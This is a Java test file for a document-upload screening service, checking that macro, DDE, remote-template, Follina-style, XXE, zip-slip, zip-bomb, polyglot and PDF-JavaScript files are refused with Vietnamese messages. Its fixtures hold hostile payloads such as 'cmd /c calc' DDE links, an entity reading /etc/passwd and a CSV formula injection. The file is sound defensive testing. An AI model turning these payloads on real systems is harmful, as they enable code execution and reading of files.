package vn.hienluong.files.screening;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.hienluong.files.screening.Hostile.bytes;
import static vn.hienluong.files.screening.Hostile.docx;
import static vn.hienluong.files.screening.Hostile.joined;
import static vn.hienluong.files.screening.Hostile.pdfThatOpensWith;
import static vn.hienluong.files.screening.Hostile.refers;
import static vn.hienluong.files.screening.Hostile.word;
import static vn.hienluong.files.screening.Hostile.xlsx;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import vn.hienluong.files.screening.Hostile.Part;
import vn.hienluong.platform.Outcome;
import vn.hienluong.platform.Words;

/** Files that would do harm, each with the sentence that its sender reads; and those that only look as if. */
@Tag("slow")
class HostileFilesTests {

    private static final Duration SOON = Duration.ofSeconds(20);

    @TempDir
    Path folder;

    private final Screening screening = new Screening(new Limits(100, 50, 20, 5, "", Duration.ofSeconds(1)));

    private Outcome<FileKind> looked(String name, byte[] content) throws IOException {
        var clean = FileName.clean(name);
        var file = Files.write(folder.resolve("arrived"), content);
        var began = System.nanoTime();
        var outcome = screening.kind(clean, file, content.length);
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(SOON);
        return outcome;
    }

    private String said(String name, byte[] content) throws IOException {
        return switch (looked(name, content)) {
            case Outcome.Refused<FileKind>(var refusal) ->
                Words.load().in(Words.VIETNAMESE).say(refusal);
            case Outcome.Done<FileKind>(var kind) -> "kept as " + kind;
        };
    }

    private static final Part PICTURE = refers("word/_rels/document.xml.rels", "image", "http://xau.example/a.png");

    static Stream<Arguments> refused() {
        return Stream.concat(archives(), others());
    }

    private static Stream<Arguments> archives() {
        var bin = Part.of("word/embeddings/oleObject1.bin", "MZ");
        var vba = Part.of("word/vbaProject.bin", "Sub AutoOpen");
        var control = Part.of("word/activeX/activeX1.xml", "<ax/>");
        var field = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>"
                + "<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r>";
        var dde = Part.of(
                "xl/externalLinks/externalLink1.xml",
                "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
        var template = "word/_rels/settings.xml.rels";
        var utf16 = Hostile.relationship("image", "http://xau.example/b.png").getBytes(StandardCharsets.UTF_16);
        var two = Hostile.zip(List.of(Part.of("a/a.xml", "1"), Part.of("b/a.xml", "2")));
        var same = new String(two, StandardCharsets.ISO_8859_1).replace("b/a.xml", "A/a.xml");
        return Stream.of(
                Arguments.of("macro.docx", Samples.docxWithMacros(), "có chứa macro"),
                Arguments.of("vba.docx", docx(word(""), vba), "có chứa macro"),
                Arguments.of("doi-ten.docx", docx(word(""), vba), "có chứa macro"),
                Arguments.of("bang.docm", docx(word(""), vba), "có chứa macro"),
                Arguments.of("tep.odt", Samples.odt("Basic/Standard/Module1.xml"), "có chứa macro"),
                Arguments.of(
                        "activex.docx",
                        docx(word(""), control),
                        "đối tượng nhúng có thể chạy khi bấm vào (word/activeX"),
                Arguments.of(
                        "ole.docx", docx(word(""), bin), "đối tượng nhúng có thể chạy khi bấm vào (word/embeddings"),
                Arguments.of("ole.odt", Samples.odt("Object 1"), "đối tượng nhúng"),
                Arguments.of("dde.docx", docx(word(field)), "gọi chương trình khác (DDE: DDEAUTO c:\\\\windows"),
                Arguments.of(
                        "dde2.docx",
                        docx(word("<w:fldSimple w:instr=\" dde Excel a.xlsx\"/>")),
                        "gọi chương trình khác (DDE"),
                Arguments.of("dde.xlsx", xlsx(dde), "gọi chương trình khác (DDE: cmd /c calc"),
                Arguments.of(
                        "mau.docx",
                        docx(word(""), refers(template, "attachedTemplate", "https://xau.example/a.dotm")),
                        "tự tải nội dung từ nơi khác (https://xau.example/a.dotm)"),
                Arguments.of(
                        "an.docx",
                        docx(word(""), refers(template, "attachedTemplate", "&#104;ttp://xau.example/a.dotm")),
                        "tự tải nội dung từ nơi khác (http://xau"),
                Arguments.of("utf16.docx", docx(word(""), new Part(PICTURE.name(), utf16)), "tự tải nội dung"),
                Arguments.of("anh.docx", docx(word(""), PICTURE), "tự tải nội dung từ nơi khác (http://xau"),
                Arguments.of(
                        "mang.docx",
                        docx(word(""), refers(PICTURE.name(), "image", "\\\\xau.example\\a\\b.png")),
                        "tự tải nội dung"),
                Arguments.of(
                        "follina.docx",
                        docx(word(""), refers(PICTURE.name(), "oleObject", "mhtml:http://xau.example/x!x-usc:y")),
                        "tự tải nội dung"),
                Arguments.of("thoat.docx", docx(word(""), Part.of("../../../tmp/x", "x")), "bị hỏng"),
                Arguments.of("goc.docx", docx(word(""), Part.of("/etc/cron.d/x", "x")), "bị hỏng"),
                Arguments.of("nguoc.docx", docx(word(""), Part.of("word\\..\\x", "x")), "bị hỏng"),
                Arguments.of("trung.docx", same.getBytes(StandardCharsets.ISO_8859_1), "bị hỏng"),
                Arguments.of("khoa.docx", Hostile.locked(docx(word(""))), "có đặt mật khẩu"),
                Arguments.of("zstd.docx", Hostile.packedBy(93, docx(word(""))), "bị hỏng"),
                Arguments.of("dtd.docx", docx(word(""), xxe()), "bị hỏng"),
                Arguments.of("cut.docx", java.util.Arrays.copyOf(Samples.docx(), 900), "bị hỏng"),
                Arguments.of("bom.docx", docx(new Part("word/document.xml", Hostile.spaces(65))), "lớn bất thường"),
                Arguments.of(
                        "bom-noi-doi.docx",
                        Hostile.claiming(10, docx(new Part("word/document.xml", Hostile.spaces(65)))),
                        "lớn bất thường"),
                Arguments.of(
                        "bom-nhieu.docx",
                        Hostile.claiming(600 << 20, docx(word(""), Part.of("word/a.xml", "a"))),
                        "lớn bất thường"),
                Arguments.of("bom.zip", Hostile.zip(List.of(new Part("1.zip", nested()))), "không được lưu"),
                Arguments.of("gia.docx", Hostile.zip(List.of(Part.of("a.exe", "MZ"))), "không được lưu"));
    }

    private static Part xxe() {
        return Part.of(
                "word/_rels/document.xml.rels",
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><Relationships>&b;</Relationships>");
    }

    private static byte[] nested() {
        var inside = Hostile.zip(List.of(new Part("0.txt", Hostile.spaces(20))));
        for (int i = 0; i < 5; i++) {
            inside = Hostile.zip(List.of(new Part("a.zip", inside), new Part("b.zip", inside)));
        }
        return inside;
    }

    private static Stream<Arguments> others() {
        var page = bytes("<!DOCTYPE html><html><body><script>fetch('/account')</script></body></html>");
        var drawing = bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
        var pdf = Samples.pdf();
        var zip = Samples.docx();
        var named = new String(pdfThatOpensWith(Hostile.script(), false), StandardCharsets.ISO_8859_1);
        var spelt = bytes(named.replace("/JavaScript", "/J#61vaScr#69pt"));
        var bomb = joined(
                bytes("%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n"),
                Hostile.deflated(Hostile.spaces(300)),
                bytes("\nendstream endobj\n%%EOF"));
        var many = joined(bytes("%PDF-1.7\n"), bytes("/ObjStm ".repeat(200_000)), bytes("%%EOF"));
        return Stream.of(
                Arguments.of("rong.pdf", new byte[0], "không có nội dung"),
                Arguments.of("trang.pdf", page, "không được lưu"),
                Arguments.of("trang.txt", page, "không được lưu"),
                Arguments.of("hinh.png", drawing, "không được lưu"),
                Arguments.of("hinh.svg", drawing, "không được lưu"),
                Arguments.of("gif.png", bytes("GIF89a=1;alert(1)//"), "không được lưu"),
                Arguments.of(
                        "chay.pdf", bytes("MZ\u0090\u0000 This program cannot be run in DOS mode"), "không được lưu"),
                Arguments.of("cu.doc", oldOffice(), "Office cũ hoặc có đặt mật khẩu"),
                Arguments.of("hai.pdf", joined(pdf, zip), "giấu một tệp thuộc loại khác"),
                Arguments.of("hai.png", joined(Samples.image("png"), zip), "giấu một tệp thuộc loại khác"),
                Arguments.of("hai.docx", joined(pdf, zip), "không khớp với nội dung"),
                Arguments.of("\u202Efdp.exe", pdf, "không khớp với nội dung"),
                Arguments.of("bao-cao.pdf.exe", pdf, "không khớp với nội dung"),
                Arguments.of("script.pdf", pdfThatOpensWith(Hostile.script(), false), "tự thực hiện lệnh (JavaScript)"),
                Arguments.of("script2.pdf", pdfThatOpensWith(Hostile.script(), true), "tự thực hiện lệnh (JavaScript)"),
                Arguments.of("script3.pdf", spelt, "tự thực hiện lệnh (JavaScript)"),
                Arguments.of("chay.pdf", pdfThatOpensWith(Hostile.launch(), false), "tự thực hiện lệnh (Launch)"),
                Arguments.of("chay2.pdf", pdfThatOpensWith(Hostile.launch(), true), "tự thực hiện lệnh (Launch)"),
                Arguments.of("bom.pdf", bomb, "lớn bất thường"),
                Arguments.of("bom2.pdf", many, "lớn bất thường"));
    }

    private static byte[] oldOffice() {
        var head =
                new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1};
        return java.util.Arrays.copyOf(head, 1024);
    }

    @ParameterizedTest(name = "{0}: {2}")
    @MethodSource
    void refused(String name, byte[] content, String words) throws IOException {
        assertThat(said(name, content)).contains(words).doesNotContain("{");
    }

    /** Harmless, or made harmless by how it is given back: saved under its own ending, never shown, never run. */
    static Stream<Arguments> kept() {
        var link = refers("word/_rels/document.xml.rels", "hyperlink", "https://quangtri.gov.vn/");
        var own = refers("word/_rels/document.xml.rels", "image", "file:///C:/Users/an/anh.png");
        var book = refers(
                "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///\\\\may2\\so.xlsx");
        var formula =
                Part.of("xl/worksheets/sheet1.xml", "<worksheet><f>HYPERLINK(\"http://xau.example\")</f></worksheet>");
        var field = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>"
                + "<w:r><w:t>DDEAUTO là gì</w:t></w:r>";
        var table = Part.of("word/embeddings/Microsoft_Excel_Sheet1.xlsx", "PK");
        var scanned = joined(bytes("\r\n\r\n"), Samples.pdf());
        var html = joined(bytes("%PDF-1.4\n%<html><script>alert(1)</script>\n"), Samples.pdf());
        return Stream.of(
                Arguments.of("lien-ket.docx", docx(word(field), link), FileKind.DOCX),
                Arguments.of("anh-tren-may.docx", docx(word(""), own), FileKind.DOCX),
                Arguments.of("bieu.docx", docx(word(""), table), FileKind.DOCX),
                Arguments.of("lien-ket-so.xlsx", xlsx(book, formula), FileKind.XLSX),
                Arguments.of("cong-thuc.csv", Samples.text("=cmd|' /C calc'!A0;1\n@SUM(1);-2+3\n"), FileKind.TEXT),
                Arguments.of(
                        "bom-trong-anh.docx", docx(word(""), new Part("word/media/a.zip", nested())), FileKind.DOCX),
                Arguments.of("may-quet.pdf", scanned, FileKind.PDF),
                Arguments.of("chu-thich.pdf", html, FileKind.PDF),
                Arguments.of("dinh-kem.pdf", Hostile.pdfWithAFileInIt(), FileKind.PDF),
                Arguments.of("CON.pdf", Samples.pdf(), FileKind.PDF));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void kept(String name, byte[] content, FileKind kind) throws IOException {
        assertThat(looked(name, content)).isEqualTo(Outcome.done(kind));
    }

    /** A page before the head of a PDF: by a browser taken for a page, by a reader for a PDF. */
    @Test
    void aPageBeforeAPdfIsNoPdf() throws IOException {
        var both = joined(bytes("<html><script>alert(1)</script></html>"), Samples.pdf());
        assertThat(said("hai.pdf", both)).containsAnyOf("không được lưu", "giấu một tệp thuộc loại khác");
        var hidden = joined(bytes("x=1;//\n"), Samples.pdf());
        assertThat(said("hai.pdf", hidden))
                .containsAnyOf("không được lưu", "giấu một tệp thuộc loại khác", "không khớp");
    }

    @Test
    void aListOfPartsThatWouldFillTheMemoryIsNotRead() throws IOException {
        var parts = java.util.stream.IntStream.range(0, 100_000)
                .mapToObj(i -> Part.of("word/" + i, ""))
                .toList();
        assertThat(said("nhieu.docx", Hostile.zip(parts))).contains("bị hỏng");
    }
}
